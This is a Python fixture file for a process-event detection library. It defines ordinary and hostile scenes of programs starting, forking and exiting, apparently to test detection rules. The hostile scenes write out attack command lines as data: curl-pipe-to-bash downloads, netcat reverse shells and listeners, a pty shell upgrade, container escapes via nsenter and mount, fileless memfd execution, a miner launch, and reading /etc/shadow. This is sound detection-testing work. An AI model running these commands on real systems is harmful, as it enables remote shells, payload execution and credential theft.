"""Scenes of programs that start, fork and end."""

# ruff: noqa: S108 - the paths are part of a story; nothing is opened
from __future__ import annotations

from typing import TYPE_CHECKING

from ruleglot.events.activity import Call, Error, Exec, Exit, FailedExec, Fork
from ruleglot.events.identity import Group, User
from ruleglot.events.process import Process
from ruleglot.events.scenes.cast import (
    AGENT,
    APACHE,
    BASH,
    CONSOLE,
    CRON,
    FAR_PTS,
    NAMELESS,
    NAMELESS_GROUP,
    NEWBORN_SHELL,
    NGINX,
    ROOT,
    ROOT_GROUP,
    RUNNER_SHELL,
    SSHD,
    SYSTEMD,
    TTY,
    WEB_SHELL,
    started,
)

if TYPE_CHECKING:
    from ruleglot.events.activity import Activity

SCRIPT = started(BASH, "/usr/bin/dash", "/bin/sh", "./x.sh", "--quiet", invoked="./x.sh", cwd="/tmp")
ORPHAN = Process(
    executable="/opt/.hid/run",
    argv=("./.hid/run", "-c", "echo $((1+2)) | base64 -d"),
    invoked="./.hid/run",
    cwd="/opt",
    pid=4640,
    user=ROOT,
    group=ROOT_GROUP,
)

ORDINARY: tuple[Activity, ...] = (
    Exec(process=started(BASH, "/usr/bin/ls", "ls", "-la"), story="bob lists his home"),
    Exec(process=started(BASH, "/usr/bin/id"), story="bob runs id without arguments"),
    Exec(process=started(BASH, "/usr/bin/git", "git", "config", "user.name", "Bob"), story="bob configures git"),
    Exec(process=started(BASH, "/usr/bin/sudo", "sudo", "-u", "root", "id", user=ROOT), story="bob uses sudo"),
    Exec(process=started(BASH, "/usr/bin/vim.basic", "vim", "notes.txt", invoked="/usr/bin/vim"), story="bob edits"),
    Exec(
        process=started(BASH, "/usr/bin/cat", "cat", "/home/bob/Müller/日本.txt", "naïve É", cwd="/home/bob/Müller"),
        story="bob reads a file with a name that is not ASCII",
    ),
    Exec(
        process=started(BASH, "/usr/bin/ls", "ls", "", "it's", 'say "hi"', "two\nlines", "t[a]b*?", "C:\\dir\\", ""),
        story="arguments that are empty, quoted, on two lines, full of wildcards",
    ),
    Exec(
        process=started(CRON, "/usr/sbin/logrotate", "/usr/sbin/logrotate", "/etc/logrotate.conf"),
        story="cron rotates logs",
    ),
    Exec(process=started(CRON, "/usr/local/bin/job", user=NAMELESS, group=NAMELESS_GROUP), story="a nameless user"),
    Exec(process=started(SYSTEMD, "/usr/bin/systemctl", "systemctl", "daemon-reload"), story="systemd reloads"),
    Exec(
        process=started(SYSTEMD, "/usr/sbin/agetty", "agetty", "console", terminal=CONSOLE),
        story="a login prompt on the console",
    ),
    Exec(
        process=started(SYSTEMD, "/usr/bin/login", "login", "--", terminal=TTY, leads_session=True),
        story="a login on the first virtual console",
    ),
    Exec(process=started(BASH, "/usr/bin/top", terminal=FAR_PTS), story="bob's 300th terminal"),
    Exec(
        process=started(SYSTEMD, "/usr/bin/systemd-detect-virt", "systemd-detect-virt", "--quiet"),
        story="a program with a name of 19 characters",
    ),
    Exec(process=started(BASH, "/usr/local/bin/abcdefghijklmno"), story="a program with a name of 15 characters"),
    Exec(process=started(BASH, "/opt/Vendor/TOOL", "/opt/Vendor/TOOL", "--Help", cwd="/"), story="capital letters"),
    Exec(process=started(BASH, "/opt/my tools/do it.bin", "do it.bin", "a b"), story="blanks in a program's path"),
    Exec(process=started(BASH, "/usr/bin/env", "/usr/bin/env", "FOO=bar baz", "printenv"), story="env sets a variable"),
    Exec(
        process=started(AGENT, "/usr/bin/apt-get", "apt-get", "install", "-y", "nmap"),
        story="an agent installs a package",
    ),
    Exec(
        process=started(AGENT, "/usr/bin/python3.11", "python3", "-V", invoked="/usr/bin/python3"),
        story="through a link",
    ),
    Exec(process=SCRIPT, story="bob runs a script of his own"),
    Exec(process=started(SCRIPT, "/usr/bin/date"), story="a script runs date"),
    Exec(
        process=started(SSHD, "/usr/bin/bash", "-bash", leads_session=True), story="a login shell: argv[0] with a dash"
    ),
    Exec(process=started(BASH, "/usr/bin/true", ""), story="argv[0] is empty"),
    Fork(process=started(BASH, "/usr/bin/bash", "-bash"), story="bob's shell forks"),
    Exit(process=started(BASH, "/usr/bin/grep", "grep", "-q", "x"), code=1, story="grep finds nothing"),
    FailedExec(process=BASH, path="/usr/bin/nosuch", error=Error.ENOENT, story="bob mistypes a command"),
    FailedExec(process=BASH, path="/root/secret", error=Error.EACCES, story="bob may not run root's program"),
)

HOSTILE: tuple[Activity, ...] = (
    Exec(
        process=started(BASH, "/usr/bin/curl", "curl", "-s", "-o", "/tmp/x.sh", "http://203.0.113.7/a b?q=1"),
        story="curl fetches a script",
    ),
    Exec(
        process=started(BASH, "/usr/bin/curl", "curl", environment=("LD_PRELOAD=/tmp/x.so", "EMPTY=")),
        story="curl with a preloaded library",
    ),
    Exec(
        process=started(BASH, "/usr/bin/bash", "bash", "-c", "wget http://203.0.113.7/x"),
        story="wget is a word inside one argument of a shell",
    ),
    Exec(
        process=started(BASH, "/usr/bin/bash", "bash", "-c", "curl -fsSL http://203.0.113.7/p.sh | bash"),
        story="download and run in one argument",
    ),
    Exec(process=started(APACHE, "/usr/bin/dash", "sh", "-c", "id"), story="a web shell asks who it is"),
    Exec(
        process=started(APACHE, "/usr/bin/dash", "/bin/sh", "-i", invoked="/bin/sh"), story="an interactive web shell"
    ),
    Exec(
        process=started(APACHE, "/usr/bin/python3.11", "python3", "-c", "import pty;pty.spawn('/bin/sh')"),
        story="a web server gets a terminal",
    ),
    Exec(process=started(WEB_SHELL, "/usr/bin/curl", "curl", "http://203.0.113.7/k"), story="curl in a container"),
    Exec(
        process=started(WEB_SHELL, "/bin/busybox", "busybox", "wget", "-O", "/tmp/kinsing", "http://203.0.113.7/k"),
        story="busybox told to be wget",
    ),
    Exec(
        process=started(WEB_SHELL, "/bin/busybox", "wget", "-q", "http://203.0.113.7/k", invoked="/usr/bin/wget"),
        story="busybox called by the name of wget",
    ),
    Exec(
        process=started(NGINX, "/bin/busybox", "sh", "-c", "nc -e /bin/sh 203.0.113.66 4444", invoked="/bin/sh"),
        story="a web server in a container opens a shell without a terminal",
    ),
    Exec(
        process=started(NEWBORN_SHELL, "/bin/busybox", "nc", "-lvnp", "4444", "-e", "/bin/sh", invoked="/usr/bin/nc"),
        story="a listener in a container without metadata",
    ),
    Exec(
        process=started(RUNNER_SHELL, "/usr/bin/mount", "mount", "/dev/sda1", "/mnt", capabilities=("CAP_SYS_ADMIN",)),
        story="a privileged container mounts the host's disk",
    ),
    Exec(
        process=started(RUNNER_SHELL, "/usr/bin/nsenter", "nsenter", "--target", "1", "--mount", "--", "/bin/bash"),
        story="a privileged container enters the host",
    ),
    Exec(
        process=started(RUNNER_SHELL, "memfd:kworker", "[kworker/0:0]", invoked="/proc/self/fd/4"),
        call=Call.EXECVEAT,
        story="a program that was never on a disk, dressed as a kernel thread",
    ),
    Exec(
        process=started(WEB_SHELL, "/tmp/kinsing", "/tmp/kinsing", "-B", "--donate-level", "1", cwd="/tmp"),
        story="a miner starts",
    ),
    Exec(
        process=started(WEB_SHELL, "/dev/shm/.x", "./.x", invoked="./.x", cwd="/dev/shm"), story="a hidden file in shm"
    ),
    Exec(
        process=started(BASH, "/tmp/extremely_long_tool_name", "./extremely_long_tool_name", "-x", cwd="/tmp"),
        story="a long name in /tmp",
    ),
    Exec(process=started(BASH, "/usr/bin/CURL", "CURL", "-S"), story="curl in capital letters"),
    Exec(process=started(BASH, "/usr/bin/curlx", "curlx"), story="a name that only begins like curl"),
    Exec(process=started(BASH, "/home/bob/curl/run", "run"), story="curl is a directory"),
    Exec(
        process=started(BASH, "/usr/bin/cat", "cat", "/etc/shadow", user=ROOT, group=ROOT_GROUP),
        story="root reads shadow",
    ),
    Exec(
        process=started(
            BASH, "/usr/bin/passwd", user=ROOT, real_user=User(id=1000, name="bob"), real_group=Group(id=1000)
        ),
        story="a program that runs as its owner",
    ),
    Exec(
        process=started(BASH, "/usr/bin/find", "find", "/", "-perm", "-4000", "-exec", "ls", "{}", ";"),
        story="looking for programs that run as their owner",
    ),
    Exec(process=started(BASH, "/usr/bin/base64", "base64", "-d"), story="something is decoded"),
    Exec(process=started(BASH, "/usr/bin/bash", "bash", "-c", "echo aWQ= | base64 -d | sh"), story="decoded and run"),
    Exec(process=started(BASH, "/usr/bin/crontab", "crontab", "-e"), story="bob edits his crontab"),
    Exec(process=ORPHAN, story="a hidden program whose parent nobody knows"),
)
